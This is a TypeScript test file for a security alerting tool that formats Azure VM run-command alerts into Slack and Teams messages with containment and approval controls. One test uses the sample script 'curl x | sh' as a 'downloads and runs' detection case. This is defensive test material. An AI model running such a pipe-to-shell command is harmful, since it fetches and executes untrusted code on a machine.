import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { MessageModel } from '../../src/chat/message';
import { messageOf } from '../../src/chat/message';
import { toBlocks } from '../../src/chat/slack/blocks';
import { toCard } from '../../src/chat/teams/card';
import { toAllCard } from '../../src/chat/teams/dialog-cards';
import { type Alert, newAlert } from '../../src/domain/alerts/alert';
import { acknowledge, close, contain, reopen } from '../../src/domain/alerts/transitions';
import type { AlertView } from '../../src/domain/measures/alert-view';
import type { Approval } from '../../src/domain/measures/approval';
import { type Measure, measureIdOf } from '../../src/domain/measures/measure';
import { type Execution, executionFrom } from '../../src/domain/techniques/execution';
import { factsAbout, untouched } from '../support/alerts';
import { event } from '../support/event';
import { excessControls, faultsOfBlocks } from '../support/slack-blocks';
import { excessActions, faultsOfCard } from '../support/teams-cards';

// biome-ignore lint/suspicious/noExplicitAny: blocks and cards, inspected by tests
type Loose = any;

const target = (name: string): Loose =>
  JSON.parse(readFileSync(join(__dirname, `../fixtures/message/${name}.json`), 'utf8'));

const id = 'RW-NM6KEKQVWY';
const linkTo = (alertId: string) => `https://runwatch.contoso.example/console/alerts/${alertId}`;
const by = { surface: 'slack', id: 'U1', name: 'Alex Kim' } as const;
const at = (minutes: number) => new Date(Date.parse('2026-11-25T22:41:09Z') + minutes * 60_000).toISOString();
const model = (view: AlertView, more: object = {}): MessageModel =>
  messageOf(view, { responders: true, now: Date.parse(at(5)), linkTo, ...more });

const ran = executionFrom(event()) as Execution;
const execution: Execution = { ...ran, status: 'succeeded', caller: { ...ran.caller, type: 'User' } };
const machineName = execution.target.name;

function newOne(executions: Execution[] = [execution]): Alert {
  return {
    ...newAlert(id, executions, at(0)),
    severity: 'critical',
    score: 100,
    reasons: [
      { id: 'technique', points: 47, text: 'Run command' },
      { id: 'firstOnMachine', points: 15, text: 'first time on this machine (0 in 89 days)' },
    ],
    facts: {
      ...factsAbout(execution, {
        machine: {
          os: 'Linux',
          power: 'running',
          agent: null,
          tags: {},
          environment: 'production',
          publicIps: [],
          openPorts: [],
          encryption: null,
          locks: [],
          identityCan: ['read secrets in kv-pay'],
          identities: [],
        },
      }),
      who: {
        name: 'Dana Reyes',
        jobTitle: null,
        enabled: true,
        guest: false,
        owners: [],
        application: null,
        signIn: null,
        weakSignIn: true,
        hint: null,
      },
      access: {
        grant: {
          role: 'Virtual Machine Contributor',
          scope: `/subscriptions/${execution.target.subscriptionId}`,
          assignmentId: 'a1',
        },
        source: 'log',
        group: { name: 'ops-oncall', members: 2 },
        assignedAt: null,
        assignedBy: null,
        until: null,
        condition: null,
        otherWays: 0,
        alsoCan: [],
        machines: 26,
        subscriptionName: 'Payments',
      },
    },
  };
}

const isolation = (fields: Partial<Measure> = {}): Measure => ({
  id: measureIdOf('isolation', execution.target.id),
  kind: 'isolation',
  target: execution.target.id.toLowerCase(),
  name: machineName,
  subjects: [`machine:${execution.target.id.toLowerCase()}`],
  rev: 1,
  state: 'in force',
  way: 'do',
  action: 'isolate',
  by,
  at: at(4),
  changedAt: at(4),
  press: 'p1',
  alerts: [id],
  before: { interfaces: [] },
  steps: [],
  says: 'Isolated: new connections are denied.',
  signature: 's',
  ...fields,
});

const acknowledged: Alert = {
  ...newOne(),
  ...acknowledge(newOne(), { by, at: at(3) }),
  assignee: by,
};
const contained = contain(acknowledged, { by, at: at(4) });
const closed = close(contained, 'true positive', { by, at: at(60), note: 'Stolen credentials' });

const views: Record<string, AlertView> = {
  new: untouched(newOne()),
  acknowledged: untouched(acknowledged),
  isolated: { ...untouched(contained), measures: [isolation()] },
  closed: { ...untouched(closed), measures: [isolation()] },
};

const named = (text: string) => text.replaceAll('vm-pay-01', machineName);
const controlsIn = (blocks: Loose[]) =>
  blocks
    .filter(({ type }) => type === 'actions')
    .flatMap(({ elements }) => elements)
    .map((element: Loose) =>
      element.type === 'overflow'
        ? element.options.map((option: Loose) => [option.value, named(option.text.text)])
        : [
            element.action_id,
            named(element.text.text),
            element.style ?? '',
            named(element.confirm?.title.text ?? ''),
            element.url ?? '',
          ],
    );
const shape = (blocks: Loose[]) => blocks.map(({ type }) => type);

test.each(['new', 'acknowledged', 'isolated'])(
  'Slack, %s: blocks and controls are those of the target',
  (state) => {
    const { blocks } = target(`slack-${state}`);
    const shown = toBlocks(model(views[state] as AlertView));
    expect(faultsOfBlocks(shown)).toEqual([]);
    expect(shape(shown)).toEqual(shape(blocks));
    expect(controlsIn(shown)).toEqual(controlsIn(blocks));
    expect((shown[0] as Loose).text.text).toBe(named(blocks[0].text.text));
  },
);

test('Slack, closed: two lines, what is still in place, release and reopen', () => {
  const shown = toBlocks(model(views.closed as AlertView)) as Loose[];
  expect(shape(shown)).toEqual(shape(target('slack-closed').blocks));
  const lines = shown[0].elements[0].text.split('\n');
  expect(lines).toHaveLength(2);
  expect(lines[0]).toMatch(
    /^:white_check_mark: Closed as true positive by \*Alex Kim\* .*Stolen credentials$/,
  );
  expect(lines[1]).toContain(
    `Critical 100 · Dana Reyes → ${machineName} · dana · 3 min to acknowledge, 60 min to close`,
  );
  expect(shown[1].text.text).toBe(`*Still in place:* ${machineName} isolated`);
  expect(controlsIn(shown).map(([action]) => action)).toEqual(
    expect.arrayContaining(['release', 'reopen', 'open']),
  );
});

test('Slack, new: three facts, and the link in a context line that begins with the outcome', () => {
  const [, context, facts] = toBlocks(model(views.new as AlertView)) as Loose[];
  expect(context.elements[0].text).toMatch(
    /^Succeeded.* · Score 100 · production · Payments · <!date.*> · <https:\/\/runwatch.contoso.example\/console\/alerts\/RW-NM6KEKQVWY\|RW-NM6KEKQVWY>$/,
  );
  expect(facts.expand).toBe(true);
  expect(facts.text.text).toBe(
    [
      '*Why it stands out:* first time on this machine (0 in 89 days)',
      '*What it exposes:* read secrets in kv-pay (the machine’s identity) · commands on 26 VMs in Payments (caller)',
      '*Access path:* ops-oncall (2 members) → Virtual Machine Contributor → Payments',
    ].join('\n'),
  );
});

test('Slack, isolated: what is still possible and what to do next', () => {
  const facts = toBlocks(model(views.isolated as AlertView))[2] as Loose;
  expect(facts.text.text).toBe(
    '*Still possible:* sessions already open · further run commands\n*Next:* revoke the role or lock the VM, then snapshot its disks',
  );
});

test('an isolation that is not verified is not called contained', () => {
  const unsure = isolation({ checked: { at: at(4), verified: false, notes: ['a rule allows it'] } });
  const shown = model({ ...untouched(contained), measures: [unsure] });
  expect(shown.contained).toBe(false);
  expect(shown.sentence).toMatch(/^Critical: Dana Reyes ran a command/);
});

test('Teams, new: the same controls, the first four visible', () => {
  const card = toCard(model(views.new as AlertView), { dialogs: true }) as Loose;
  const wanted = target('teams-new');
  expect(Object.keys(card).sort()).toEqual(Object.keys(wanted).sort());
  expect(shape(card.body)).toEqual(shape(wanted.body));
  expect(card.body[0].items[0].text).toBe(`Critical: Dana Reyes ran a command as root on ${machineName}`);
  expect(card.body[1].facts.map(({ title }: Loose) => title)).toEqual(
    wanted.body[1].facts.map(({ title }: Loose) => title),
  );
  const modes = card.actions.map(({ title, type, mode }: Loose) => [title, type, mode]);
  expect(modes).toEqual([
    ['Acknowledge', 'Action.Execute', undefined],
    [`Isolate ${machineName}…`, 'Action.Submit', undefined],
    ['Add exception…', 'Action.Submit', undefined],
    ['Open in Runwatch', 'Action.OpenUrl', undefined],
    ['Ask Dana', 'Action.Execute', 'secondary'],
    ['Close…', 'Action.Submit', 'secondary'],
    ['Except here for 24 h', 'Action.Execute', 'secondary'],
    ['Show roles', 'Action.Execute', 'secondary'],
    ['All responses…', 'Action.Submit', 'secondary'],
  ]);
});

const approval = (n: number): Approval => ({
  id: `A-${n}`,
  rev: 1,
  state: 'asked',
  alertId: id,
  action: 'revoke_role',
  what: 'Revoke role',
  why: 'this action requires two people here',
  by,
  at: at(3),
  until: at(18),
  needed: 1,
  pin: null,
  job: {},
  signature: 's',
  approvals: [],
});

const failed = isolation({ state: 'failed', reason: 'Azure refused', before: {} });
const manyViews: [string, AlertView][] = [
  ...Object.entries(views),
  ['one approval', { ...untouched(newOne()), approvals: [approval(1)] }],
  ['three approvals', { ...untouched(newOne()), approvals: [1, 2, 3].map(approval) }],
  ['failed', { ...untouched(acknowledged), measures: [failed] }],
  ['failed, closed', { ...untouched(closed), measures: [failed] }],
];
const options = [
  {},
  { linkTo: () => null },
  { responders: false },
  { responders: false, linkTo: () => null },
];

test.each(manyViews)(
  '%s: at most four controls and an overflow, and every action is reachable',
  (_, view) => {
    for (const more of options) {
      const shown = model(view, more);
      const blocks = toBlocks(shown);
      expect(excessControls(blocks)).toEqual([]);
      expect(faultsOfBlocks(blocks)).toEqual([]);
      expect(excessActions(toCard(shown, { dialogs: true }))).toEqual([]);
      for (const dialogs of [true, false]) expect(faultsOfCard(toCard(shown, { dialogs }))).toEqual([]);
      const reachable = [...shown.controls.shown, ...shown.controls.more].map((action) => action.id);
      const actions = shown.page().actions.map((action) => action.id);
      if (!reachable.includes('all')) expect(reachable).toEqual(expect.arrayContaining(actions));
      expect(shown.keyFacts.length).toBeLessThanOrEqual(3);
    }
  },
);

test('a pending approval comes first, in a block of its own', () => {
  const blocks = toBlocks(model({ ...untouched(newOne()), approvals: [approval(1)] })) as Loose[];
  const rows = blocks.filter(({ type }) => type === 'actions');
  expect(rows.map(({ block_id }) => block_id)).toEqual(['approval.A-1', `actions.${id}`]);
  expect(rows.map(({ elements }) => elements.map((element: Loose) => element.action_id))).toEqual([
    ['approve', 'decline'],
    ['acknowledge', 'isolate', 'more'],
  ]);
});

test('a failed response comes first until it is retried or dismissed', () => {
  const { shown } = model({ ...untouched(acknowledged), measures: [failed] }).controls;
  expect(shown.slice(0, 2).map((action) => action.id)).toEqual(['retry', 'dismiss']);
});

test('without a public URL, no message has a link, and another control takes its place', () => {
  const shown = model(views.new as AlertView, { linkTo: () => null });
  expect(JSON.stringify(toBlocks(shown))).not.toContain('https://');
  expect(shown.controls.shown.map((action) => action.id)).toEqual([
    'acknowledge',
    'isolate',
    'add_exception',
    'ask_caller',
  ]);
});

test('without responders, only triage is shown, with one line that says why', () => {
  const shown = model(views.new as AlertView, { responders: false });
  expect(shown.controls.shown.map((action) => action.id)).toEqual([
    'acknowledge',
    'open',
    'ask_caller',
    'close',
  ]);
  expect(JSON.stringify(shown.status).match(/No responders are configured/g)).toHaveLength(1);
});

test('suspicious behavior replaces the least telling fact, with the line in a code span', () => {
  const alert = newOne();
  const script = {
    text: 'curl x | sh',
    sha256: 'a'.repeat(64),
    parameters: [],
    runAs: null,
    redacted: [],
    traits: [{ name: 'downloads and runs', line: 1, text: 'curl x | sh' }],
  };
  const facts = { ...alert.facts, ...factsAbout(execution, { script }) };
  const { keyFacts } = model(untouched({ ...alert, facts }));
  expect(keyFacts.map(({ label }) => label)).toEqual([
    'Why it stands out',
    'Suspicious behavior',
    'What it exposes',
  ]);
  expect(keyFacts[1]?.value).toContainEqual({ code: 'curl x | sh' });
});

test.each([
  [
    "machine vm: The client 'x' with object id 'y' does not have authorization to perform action 'Microsoft.Compute/virtualMachines/read' over scope '/subscriptions/s' (HTTP 403, AuthorizationFailed)",
    'Unavailable: the machine — needs Microsoft.Compute/virtualMachines/read',
  ],
  [
    'machine vm: secret internals (HTTP 500, InternalServerError)',
    'Unavailable: the machine — Azure answered with an error (HTTP 500)',
  ],
  [
    'machine vm: getaddrinfo ENOTFOUND (ENOTFOUND)',
    'Unavailable: the machine — Azure didn’t answer (ENOTFOUND)',
  ],
  ['no answer within 5 s', 'Unavailable: the machine — no answer within 5 s'],
])('what could not be read is one short line: %s', (why, line) => {
  const alert = newOne();
  const shown = model(
    untouched({ ...alert, facts: { ...alert.facts, missing: [{ what: 'the machine', why }] } }),
  );
  expect(shown.notes).toEqual([[line]]);
});

test('all responses are in groups, each with what it does', () => {
  const { actions } = model(views.new as AlertView).page();
  const body = (toAllCard(actions, id, null) as Loose).body;
  const headings = body.filter(({ weight }: Loose) => weight === 'Bolder').map(({ text }: Loose) => text);
  expect(headings).toEqual(['Triage', 'Contain', 'Access', 'Preserve', 'Recover', 'Hand over']);
  for (const { id: action, does, choices } of actions)
    expect([action, Boolean(does) || Boolean(choices)]).toEqual([action, true]);
});

test('a burst of 1,200 machines says how many, and its card stays below 28 KB', () => {
  const many = Array.from({ length: 1200 }, (_, i) => ({
    ...execution,
    key: `K${i}`,
    refused: i >= 1100,
    status: i >= 1100 ? ('failed' as const) : execution.status,
    target: { ...execution.target, id: `${execution.target.id}-${i}`, name: `vm-${i}` },
  }));
  const shown = model(untouched({ ...newOne(many), exceptionOf: { K0: 'ex-1' } }));
  expect(shown.sentence).toMatch(/ran a command.* on 1,099 machines$/);
  expect(shown.keyFacts.map(({ label }) => label)).toContain('Commands');
  for (const dialogs of [true, false])
    expect(JSON.stringify(toCard(shown, { dialogs })).length).toBeLessThan(28 * 1024);
  expect(shown.controls.shown.map(({ label }) => label)).toContain('Isolate 1,099 machines…');
});

test('a chosen display name hides neither the sign-in name nor a guest, and has no symbols', () => {
  const alert = newOne();
  const who = {
    ...(alert.facts.who as NonNullable<Alert['facts']['who']>),
    name: '✅ Lee Okafor',
    guest: true,
  };
  const shown = model(untouched({ ...alert, facts: { ...alert.facts, who } }));
  expect(shown.sentence).toContain('Lee Okafor ran');
  expect(shown.sentence).not.toContain('✅');
  for (const text of [JSON.stringify(toBlocks(shown)), JSON.stringify(toCard(shown))])
    expect(text).toContain('dana, guest');
});

test('a card fits, however many machines were opened manually', () => {
  const executions = Array.from({ length: 1200 }, (_, i) => {
    const name = `機械-${i}`;
    return {
      ...execution,
      key: `k${i}`,
      target: { ...execution.target, id: `${execution.target.id}${i}`, name },
    };
  });
  const measures = executions.map(
    ({ target: { id: machine, name } }): Measure =>
      ({
        ...isolation({ state: 'drifted' }),
        id: measureIdOf('isolation', machine),
        target: machine,
        name,
        subjects: [`machine:${machine.toLowerCase()}`],
        reason: 'its interface no longer has our group',
      }) as Measure,
  );
  const card = toCard(model({ alert: newOne(executions), measures, approvals: [] }));
  expect(Buffer.byteLength(JSON.stringify(card))).toBeLessThan(26_000);
  expect(JSON.stringify(card)).toMatch(/Opened manually since.* and 1,197 more/);
});

test('a failed response is shown as large as a fact, and Retry replaces its button', () => {
  const reason = 'Isolate did not go through: grant X to the bot’s identity';
  const view = {
    ...untouched(acknowledged),
    measures: [isolation({ state: 'failed', steps: [], says: '', reason })],
  };
  const blocks = toBlocks(model(view)) as Loose[];
  const section = blocks.find(({ type, text }) => type === 'section' && text.text.includes(reason));
  expect(section.text.text).toMatch(/^⚠️ \*Failed\*: Isolate did not go through/);
  expect(JSON.stringify(blocks.find(({ type }) => type === 'context'))).not.toContain('Failed');
  const shown = model(view).controls.shown.map((action) => action.id);
  expect(shown.slice(0, 2)).toEqual(['retry', 'dismiss']);
  expect(shown).not.toContain('isolate');
  expect(JSON.stringify(toCard(model(view)))).toContain('⚠️ **Failed**');
});

test('an alert that a person reopened says so', () => {
  const reopened = reopen(closed, { by, at: at(70), note: 'new evidence' });
  const text = JSON.stringify(model(untouched(reopened)).status);
  expect(text).toContain('Reopened');
  expect(text).not.toContain('Acknowledged');
});
